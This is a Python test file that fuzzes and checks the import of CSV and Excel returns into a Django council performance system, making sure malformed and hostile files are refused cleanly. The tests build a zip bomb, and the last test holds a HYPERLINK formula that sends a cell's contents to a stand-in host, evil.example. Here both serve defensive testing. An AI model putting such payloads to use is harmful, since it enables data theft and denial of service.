"""Malformed files: every case a clear error, never a server error, never a database change."""

import datetime
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from imports import returns, services
from imports.models import ImportRun, Status
from imports.reading import read_table
from indicators.models import Outturn
from tests.imports.helpers import HEADINGS, Council, csv_bytes, xlsx_bytes
from tests.imports.hostile import sheet_workbook, wide_csv, wide_workbook

pytestmark = pytest.mark.django_db
FUZZ = settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@pytest.fixture
def council():
    return Council()


def outcome(council, data: bytes, name: str) -> ImportRun:
    """Upload as the officer and check, as the task does; the database must not change."""
    before = list(Outturn.objects.values_list("pk", "value", "version"))
    run = ImportRun.objects.create(kind="returns", user=council.officer, filename=name, data=data)
    services.import_run_check(run=run)
    run.refresh_from_db()
    assert run.status in (Status.INVALID, Status.READY)
    if run.status == Status.INVALID:
        assert run.message or run.result["errors"]
        for error in run.result.get("errors", []):
            assert error["row"] >= 1 and error["message"]
    assert list(Outturn.objects.values_list("pk", "value", "version")) == before
    return run


def workbook_bytes(build) -> bytes:
    workbook = Workbook()
    build(workbook.active)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@FUZZ
@given(data=st.binary(max_size=3000), name=st.sampled_from(["returns.csv", "returns.xlsx", "returns"]))
def test_any_bytes_at_all(council, data, name):
    outcome(council, data, name)


@FUZZ
@given(cut=st.integers(min_value=1, max_value=99))
def test_a_workbook_cut_short(council, cut):
    data = xlsx_bytes([["ENV3", "2025/26 Q2", 5, None, None]])
    run = outcome(council, data[: len(data) * cut // 100], "returns.xlsx")
    assert run.status == Status.INVALID and "workbook" in run.message


CELLS = st.one_of(
    st.sampled_from(["ENV1a", "ENV2", "ENV3", "HOU1", "env1a", "ENV 01a", "", " ENV3 "]),
    st.sampled_from(["2025/26 Q2", "2025/26 Q1", "2025/26", "2025/26 Apr", "2025-26 Q2", "Q2", "2099/00 Q1"]),
    st.sampled_from(["95%", "95.0", "£1,234.50", "1,234", "-3", "dna", "NA", "#N/A", "N/A", "n/a", "*", " 7 "]),
    st.text(max_size=30),
    st.integers(min_value=10_001, max_value=10_010).map(lambda n: "y" * n),
    st.integers(min_value=-(10**20), max_value=10**20).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
)


@FUZZ
@given(rows=st.lists(st.lists(CELLS, min_size=0, max_size=7), min_size=1, max_size=12), bom=st.booleans())
def test_csv_rows_of_anything(council, rows, bom):
    run = outcome(council, csv_bytes(rows, bom=bom), "returns.csv")
    if run.status == Status.READY and run.result["changes"]:
        # What passes the checks applies whole.
        services.import_run_apply(run=run)
        run.refresh_from_db()
        assert run.status == Status.APPLIED


WORKBOOK_CELLS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.datetimes(min_value=datetime.datetime(1901, 1, 1), max_value=datetime.datetime(2100, 1, 1)),
    st.sampled_from(["ENV3", "2025/26 Q2", "=1/0", "=A1", "#N/A", "n/a", "*"]),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=20),
)


@FUZZ
@given(rows=st.lists(st.lists(WORKBOOK_CELLS, min_size=0, max_size=6), min_size=0, max_size=8))
def test_workbook_cells_of_any_type(council, rows):
    outcome(council, xlsx_bytes(rows), "returns.xlsx")


class TestCases:
    def test_a_file_that_is_not_a_workbook(self, council):
        run = outcome(council, b"%PDF-1.4 not a spreadsheet\x00\x01", "returns.xlsx")
        assert "not an Excel workbook" in run.message

    def test_a_zip_that_is_not_a_workbook(self, council):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("hello.txt", "hello")
        run = outcome(council, out.getvalue(), "returns.xlsx")
        assert "not an Excel workbook" in run.message

    def test_a_zip_bomb_is_refused_unopened(self, council, settings):
        settings.PMIS_IMPORT_MAX_UNPACKED_BYTES = 1_000_000
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 5_000_000)
        assert len(out.getvalue()) < 20_000
        run = outcome(council, out.getvalue(), "returns.xlsx")
        assert "would unpack to 5.0 MB" in run.message

    def test_a_zip_of_too_many_parts(self, council, settings):
        settings.PMIS_IMPORT_MAX_MEMBERS = 10
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for n in range(11):
                archive.writestr(f"part{n}.xml", "<x/>")
        assert "11 parts" in outcome(council, out.getvalue(), "returns.xlsx").message

    def test_an_oversized_file(self, council, settings):
        settings.PMIS_IMPORT_MAX_BYTES = 50
        assert "files up to 50 bytes" in outcome(council, b"a" * 51, "returns.csv").message

    def test_an_empty_sheet_and_no_headings(self, council):
        assert "No heading row" in outcome(council, workbook_bytes(lambda sheet: None), "returns.xlsx").message
        assert "No heading row" in outcome(council, b"code,when,figure\nENV3,Q1,5\n", "returns.csv").message
        assert "no rows of data" in outcome(council, csv_bytes([]), "returns.csv").message

    def test_merged_cells(self, council):
        def build(sheet):
            sheet.append(HEADINGS)
            sheet.append(["ENV3", "2025/26 Q2", 5, None, None])
            sheet.append(["ENV2", "2025/26 Q2", 6, None, None])
            sheet.merge_cells("B2:B3")

        run = outcome(council, workbook_bytes(build), "returns.xlsx")
        assert run.status == Status.INVALID
        assert {(e["row"], e["column"]) for e in run.result["errors"]} == {(3, "B")}

    def test_dates_where_numbers_belong(self, council):
        data = xlsx_bytes([["ENV3", "2025/26 Q2", datetime.datetime(2025, 7, 1), None, None]])
        assert "is a date" in outcome(council, data, "returns.xlsx").result["errors"][0]["message"]

    def test_very_long_text(self, council):
        data = csv_bytes([["ENV3", "2025/26 Q2", "5", "", "x" * 10_001]])
        assert "too long" in outcome(council, data, "returns.csv").result["errors"][0]["message"]

    def test_line_breaks_inside_quoted_cells(self, council):
        data = csv_bytes([["ENV3", "2025/26 Q2", "5", "", "First line\nsecond line"], ["ENV2", "2025/26 Q2", "x"]])
        run = outcome(council, data, "returns.csv")
        # The second record is the file's third row, however many lines the first takes.
        assert [(e["row"], e["column"]) for e in run.result["errors"]] == [(3, "C")]

    def test_a_windows_1252_csv(self, council):
        data = "indicator_code,period,value\nENV2,2025/26 Q2,£1,234.50\n".replace("£1,234.50", '"£1,234.50"')
        run = outcome(council, data.encode("cp1252"), "returns.csv")
        assert run.status == Status.READY and run.result["changes"][0]["after"] == "£1,234.50"

    def test_importing_for_indicators_the_user_may_not_report(self, council):
        run = outcome(council, csv_bytes([["HOU1", "2025/26 Q2", "5", "", ""]]), "returns.csv")
        assert "You do not report HOU1" in run.result["errors"][0]["message"]
        with pytest.raises(returns.ApplyRefused):
            returns.apply(
                read_table(bytes(run.data), "r.csv", required=returns.REQUIRED, known=returns.KNOWN),
                council.officer,
                versions={},
            )
        assert not Outturn.objects.exists()


class TestHostileFiles:
    """Small files that would cost seconds and hundreds of MB to read if reading were not
    bounded (bench/hostile_files.py measures them)."""

    def test_a_sheet_whose_rows_reach_the_last_column_is_refused(self, council):
        data = wide_workbook(rows=300)
        assert len(data) < 10_000
        run = outcome(council, data, "returns.xlsx")
        assert run.message.startswith("Row 1 has cells in 16,384 columns; files with more than 200 columns")

    def test_a_declared_width_is_ignored_when_the_cells_are_narrow(self, council):
        headings = [(index, heading) for index, heading in enumerate(HEADINGS, start=1)]
        data = sheet_workbook([headings, [(1, "ENV3"), (2, "2025/26 Q2"), (3, "5")]], dimension="A1:XFD3")
        run = outcome(council, data, "returns.xlsx")
        assert run.status == Status.READY and run.result["changes"][0]["after"] == "5"

    def test_a_row_of_more_cells_than_columns_allowed_is_refused_before_it_is_parsed(self, council):
        """openpyxl would build every cell of the row first: 100,000 of them took 2 s of CPU."""
        headings = [(index, heading) for index, heading in enumerate(HEADINGS, start=1)]
        wide = [(column, "5") for column in range(1, 202)]
        message = outcome(council, sheet_workbook([headings, wide]), "returns.xlsx").message
        assert message.startswith("A row of the workbook has more than 200 cells; files with more than 200 columns")
        run = outcome(council, sheet_workbook([headings, wide[:200]]), "returns.xlsx")
        assert "more than 200" not in (run.message or "")

    def test_a_csv_wider_than_excel_columns_is_refused_not_a_server_error(self, council):
        run = outcome(council, wide_csv(columns=20_000), "returns.csv")
        assert run.message.startswith("Row 1 has cells in 20,000 columns; files with more than 200 columns")

    def test_a_workbook_with_more_cells_than_the_limit_is_refused_before_it_is_parsed(self, council, settings):
        settings.PMIS_IMPORT_MAX_CELLS = 20
        rows = [[(1, "ENV3"), (2, "2025/26 Q2"), (3, "5")]] * 7
        assert "more than 20 cells" in outcome(council, sheet_workbook(rows), "returns.xlsx").message
        assert outcome(council, sheet_workbook(rows[:6]), "returns.xlsx").message.startswith("No heading row")

    def test_any_failure_while_checking_marks_the_run_invalid_never_stuck(self, council, monkeypatch):
        def broken(*args, **kwargs):
            raise RuntimeError("a library bug")

        monkeypatch.setattr(services, "read_table", broken)
        run = outcome(council, csv_bytes([["ENV3", "2025/26 Q2", "5", "", ""]]), "returns.csv")
        assert run.status == Status.INVALID
        assert run.message == (
            "PMIS could not check this file because of an error of its own, not of the file. "
            "The error has been logged; try again later or ask the performance team."
        )

    def test_formula_bearing_cells_are_kept_as_the_text_they_are(self, council):
        formula = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'
        run = outcome(council, csv_bytes([["ENV3", "2025/26 Q2", "5", "", formula]]), "returns.csv")
        assert run.status == Status.READY
        returns.apply(
            read_table(bytes(run.data), "r.csv", required=returns.REQUIRED, known=returns.KNOWN),
            council.officer,
            versions=run.result["versions"],
        )
        assert Outturn.objects.get().commentary == formula
